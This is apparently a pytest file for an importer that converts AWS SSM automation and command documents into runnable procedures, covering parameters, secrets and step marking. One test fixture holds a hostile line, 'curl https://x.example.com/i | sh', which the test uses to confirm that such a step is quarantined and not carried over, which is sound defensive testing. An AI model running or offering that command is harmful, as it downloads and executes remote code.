"""SSM documents: parameters as a form, every action as a step that runs, or as a marked step by its name."""

from __future__ import annotations

from pathlib import Path

import pytest

from procedures.domain import parameters
from procedures.domain.errors import InvalidInput
from procedures.domain.importing import ImportRefused
from procedures.importers import ssm, ssm_steps
from tests.importers import corpora
from tests.importers.ssm_documents import automation, fates, program, read, spec, steps

MARKED = "todo:replace"


def test_every_type_of_parameter_becomes_its_schema() -> None:
    carried = read("script.yaml")
    form = spec(carried.procedures[0])["parameters"]
    asked = form["properties"]
    assert form["required"] == ["Who"]
    assert asked["Times"]["type"] == "integer"
    assert asked["Loud"] == {"title": "Loud", "type": "boolean", "default": False}
    assert asked["Words"]["items"] == {"type": "string", "enum": ["one", "two", "three"]}
    assert (asked["Words"]["minItems"], asked["Words"]["maxItems"]) == (1, 5)
    assert asked["Extra"] == {"title": "Extra", "type": "object", "ui:widget": "textarea", "default": {}}
    assert asked["Mode"]["enum"] == ["short", "long"]
    assert "AutomationAssumeRole" not in asked
    assert "Approvers" not in spec(read("calls.json").procedures[0])["parameters"]["properties"]
    told = fates(carried)
    assert told["parameters.Odd.allowedPattern"][0] == "reported"
    assert told["parameters.Odd.maxChars"][0] == "reported"
    assert told["assumeRole"][0] == "reported"


@pytest.mark.parametrize(
    ("pattern", "good", "bad"),
    [
        (r"^arn:aws[a-z-]*:iam::\d{12}:role/[\w+=,.@-]+$", "arn:aws:iam::123456789012:role/x", "arn:aws:iam::1:role/x"),
        (r"\A[a-z]+\Z", "abc", "abc1"),
        (r"^https?:\/\/\w+$", "https://x", "ftp://x"),
        (r"^$|^vol-[a-f0-9]{8}$", "", "vol-1"),
    ],
)
def test_a_pattern_of_java_means_the_same_in_the_form(pattern: str, good: str, bad: str) -> None:
    carried = automation(P={"type": "String", "allowedPattern": pattern})
    form = spec(carried.procedures[0])["parameters"]
    assert parameters.resolve(form, {"P": good}) == {"P": good}
    with pytest.raises(InvalidInput):
        parameters.resolve(form, {"P": bad})


def test_the_eleven_actions_that_are_used_most_run_or_are_marked_by_name() -> None:
    found = steps(read("calls.json"))
    actions = {name: step["action"] for name, step in found.items()}
    assert actions["approve"] == "gate:approval"
    assert found["approve"]["input"] == {
        "message": "Stop ${{ parameters.Topic }}?",
        "approvers": {"operations": 2},
        "expires": "1000s",
    }
    assert (actions["nap"], found["nap"]["input"]) == ("gate:wait", {"for": "90s"})
    assert actions["own"] == "procedure:run"
    assert found["own"]["input"] == {
        "procedure": "our-doc",
        "parameters": {"Topic": "${{ parameters.Topic }}", "n": 1},
    }
    real = {"stop", "look", "check", "wait", "stack", "call", "unstack", "tag", "theirs", "patch"}
    assert {name for name, action in actions.items() if action == "local:script"} == real
    assert all(found[name]["input"]["network"] is True for name in real)
    marked = {name: found[name]["input"]["was"] for name, action in actions.items() if action == MARKED}
    assert marked == {
        "late": "aws:executeAutomation",
        "shell": "aws:runCommand",
        "strange": "aws:runInstances",
        "pipe": "aws:executeAwsApi",
        "store": "aws:executeAwsApi",
    }


def test_keys_of_aws_are_secrets_of_the_run_and_stand_in_no_file() -> None:
    one = read("calls.json").procedures[0]
    assert set(spec(one)["secrets"]["schema"]["required"]) == set(ssm_steps.SECRETS)
    env = steps(read("calls.json"))["look"]["input"]["env"]
    assert env["AWS_SECRET_ACCESS_KEY"] == "${{ secrets.aws_secret_access_key }}"
    assert env["AWS_REGION"] == "${{ parameters.aws_region }}"


def test_nothing_is_pasted_into_a_program_and_no_step_asks_for_what_it_does_not_need() -> None:
    one = read("script.yaml").procedures[0]
    text = one.files["step_Greet.py"].decode()
    assert 'f"{{not a name}}"' in text
    assert "Who" not in text
    assert "secrets" not in spec(one)
    assert not [step for step in spec(one)["steps"] if step["input"].get("network")]
    pasted = automation(program("a", "print('{{ Who }}')"), Who={"type": "String"})
    assert pasted.procedures[0].marked == ["a"]


def test_a_command_document_runs_over_ssh_on_the_host_that_is_named() -> None:
    one = read("command.yaml").procedures[0]
    found = spec(one)
    assert found["targets"] == {"filter": "name=${{ parameters.host }}"}
    assert found["credentials"] == {"host": {"kind": "ssh", "ttl": "10m"}}
    assert one.marked == ["run", "evil", "windows"]
    shown = one.files["show.sh"].decode()
    assert shown.startswith("#!/bin/bash\ncd -- /tmp || exit 1\n")
    assert "WHO=''\"${PARAM_WHO}\"''" in shown
    assert "'{{.Names}}'" in shown
    assert b"curl" not in one.files["procedure.yaml"]
    assert b"curl https://x.example.com/i | sh" in one.files["kept/evil.original"]


def test_the_old_form_of_a_command_document_is_read_too() -> None:
    one = read("old.json").procedures[0]
    assert not one.marked
    assert one.files[spec(one)["steps"][0]["input"]["script"]] == b"#!/bin/sh\necho ''\"${PARAM_COMMANDS}\"''\n"


def test_what_a_step_would_leave_out_is_reported_or_the_step_is_marked() -> None:
    change = {"InstanceIds": ["i-1"], "DesiredState": "running", "AdditionalInfo": "x"}
    elsewhere = {"DocumentName": "Ours", "TargetLocations": [{"Accounts": ["1"]}]}
    built = {"Runtime": "python3.11", "Handler": "h", "Script": "%%SCRIPT=common/h.py%%"}
    carried = automation(
        {"name": "change", "action": "aws:changeInstanceState", "inputs": change},
        {"name": "elsewhere", "action": "aws:executeAutomation", "inputs": elsewhere},
        {"name": "built", "action": "aws:executeScript", "inputs": built},
    )
    assert fates(carried)["mainSteps[0].inputs.AdditionalInfo"][0] == "reported"
    assert carried.procedures[0].marked == ["elsewhere", "built"]
    assert "common/h.py" in steps(carried)["built"]["input"]["hint"]


def test_ways_back_and_gates_under_conditions_are_marked() -> None:
    loop = automation(program("a", "pass"), {**program("b", "pass"), "nextStep": "a"})
    assert loop.procedures[0].marked == ["b"]
    ask = {"name": "ask", "action": "aws:approve", "inputs": {"Approvers": ["x"]}}
    choose = {
        "name": "choose",
        "action": "aws:branch",
        "inputs": {"Choices": [{"NextStep": "ask", "Variable": "{{ P }}", "StringEquals": "x"}], "Default": "end"},
    }
    gate = automation(choose, ask, program("end", "pass"), P={"type": "String"})
    assert gate.procedures[0].marked == ["ask"]


@pytest.mark.parametrize(
    ("text", "line", "told"),
    [
        (b"a: 1\nschemaVersion: '9'\n", 2, "schemaVersion"),
        (b"schemaVersion: '0.3'\nmainSteps: 7\n", 2, "no list"),
        (b"schemaVersion: '0.3'\nmainSteps:\n  - {name: a, action: x}\n  - {name: a, action: x}\n", 4, "of its own"),
        (b"schemaVersion: '2.2'\nmainSteps:\n  - 7\n", 3, "no action"),
        (b"schemaVersion: '0.3'\nparameters: []\nparameters: [1]\n", 3, "no mapping"),
    ],
)
def test_what_is_no_document_is_refused_with_its_line(text: bytes, line: int, told: str) -> None:
    with pytest.raises(ImportRefused, match=told) as refused:
        ssm.read("x.yaml", text)
    assert refused.value.line == line


@pytest.mark.parametrize("place", corpora.files("ssm-automation", "ssm-command"), ids=lambda place: place.name[-60:])
def test_a_public_file_is_imported(place: Path) -> None:
    assert corpora.outcome("ssm", place) in {"imported", "marked"}
